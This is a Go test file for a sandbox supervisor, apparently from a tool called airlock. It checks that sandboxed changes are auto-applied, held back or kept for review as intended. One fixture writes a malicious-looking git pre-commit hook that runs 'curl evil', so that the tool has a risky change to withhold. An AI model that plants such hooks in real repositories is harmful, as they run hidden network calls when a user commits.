package supervisor

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/airlock-dev/airlock/internal/config"
	"github.com/airlock-dev/airlock/internal/engine"
	"github.com/airlock-dev/airlock/internal/term"
	"github.com/airlock-dev/airlock/internal/workspace"
)

// copySession is a copy-mode workspace session on a real directory, with
// change made to the copy (as a sandbox would).
func copySession(t *testing.T, change func(copy string)) (*workspace.Session, string) {
	t.Helper()
	root := t.TempDir()
	ws := filepath.Join(root, "ws")
	os.MkdirAll(filepath.Join(ws, ".git", "hooks"), 0o755)
	os.WriteFile(filepath.Join(ws, "main.go"), []byte("package main\n"), 0o644)
	s, err := workspace.Prepare(filepath.Join(root, "session"), workspace.Config{Mode: workspace.Copy, Root: ws}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Ready(); err != nil {
		t.Fatal(err)
	}
	change(s.CopyDir())
	return s, ws
}

func reviewer(t *testing.T, ws config.Workspace) (*supervisor, *[]string) {
	t.Helper()
	devnull, _ := os.Open(os.DevNull)
	out, _ := os.CreateTemp(t.TempDir(), "stderr")
	t.Cleanup(func() { devnull.Close(); out.Close() })
	var outcomes []string
	sv := &supervisor{spec: engine.Spec{Config: config.Spec{Workspace: ws}}, io: term.IO{Stdin: devnull, Stdout: out, Stderr: out},
		record: func(o string, _ workspace.Counts) { outcomes = append(outcomes, o) }}
	return sv, &outcomes
}

func stderrOf(sv *supervisor) string {
	b, _ := os.ReadFile(sv.io.Stderr.Name())
	return string(b)
}

func TestAutoApplyAppliesPlainChangesAndHoldsBackRiskyOnes(t *testing.T) {
	s, ws := copySession(t, func(c string) {
		os.WriteFile(filepath.Join(c, "main.go"), []byte("package main // changed\n"), 0o644)
		os.WriteFile(filepath.Join(c, ".git", "hooks", "pre-commit"), []byte("#!/bin/sh\ncurl evil\n"), 0o755)
	})
	sv, outcomes := reviewer(t, config.Workspace{AutoApply: true})
	if keep := sv.reviewWorkspace(s, "abc", false); !keep {
		t.Error("a held-back risky change must keep the sandbox for review")
	}
	if b, _ := os.ReadFile(filepath.Join(ws, "main.go")); string(b) != "package main // changed\n" {
		t.Errorf("the plain change was not applied: %q", b)
	}
	if _, err := os.Stat(filepath.Join(ws, ".git", "hooks", "pre-commit")); !os.IsNotExist(err) {
		t.Errorf("the risky hook was applied without --apply-risky: %v", err)
	}
	if out := stderrOf(sv); !strings.Contains(out, "held back 1 risky change") || !strings.Contains(out, "airlock diff abc") {
		t.Errorf("stderr does not say what was held back and what to do:\n%s", out)
	}
	if len(*outcomes) != 1 || (*outcomes)[0] != "kept" {
		t.Errorf("audit outcomes = %v, want [kept]", *outcomes)
	}
}

func TestWithoutATerminalOrAutoApplyChangesAreKeptNotApplied(t *testing.T) {
	s, ws := copySession(t, func(c string) {
		os.WriteFile(filepath.Join(c, "new.txt"), []byte("x"), 0o644)
	})
	sv, outcomes := reviewer(t, config.Workspace{})
	if keep := sv.reviewWorkspace(s, "abc", false); !keep {
		t.Error("unapplied changes must keep the sandbox")
	}
	if _, err := os.Stat(filepath.Join(ws, "new.txt")); !os.IsNotExist(err) {
		t.Errorf("a change was applied with nobody asked: %v", err)
	}
	if out := stderrOf(sv); !strings.Contains(out, "kept 1 created for review") {
		t.Errorf("stderr = %q, want the kept count and the commands", out)
	}
	if len(*outcomes) != 1 || (*outcomes)[0] != "kept" {
		t.Errorf("audit outcomes = %v, want [kept]", *outcomes)
	}
}

func TestNoChangesNothingKept(t *testing.T) {
	s, _ := copySession(t, func(string) {})
	sv, outcomes := reviewer(t, config.Workspace{})
	if keep := sv.reviewWorkspace(s, "abc", false); keep {
		t.Error("nothing changed, yet the sandbox is kept")
	}
	if len(*outcomes) != 1 || (*outcomes)[0] == "kept" {
		t.Errorf("audit outcomes = %v, want one that is not kept", *outcomes)
	}
}
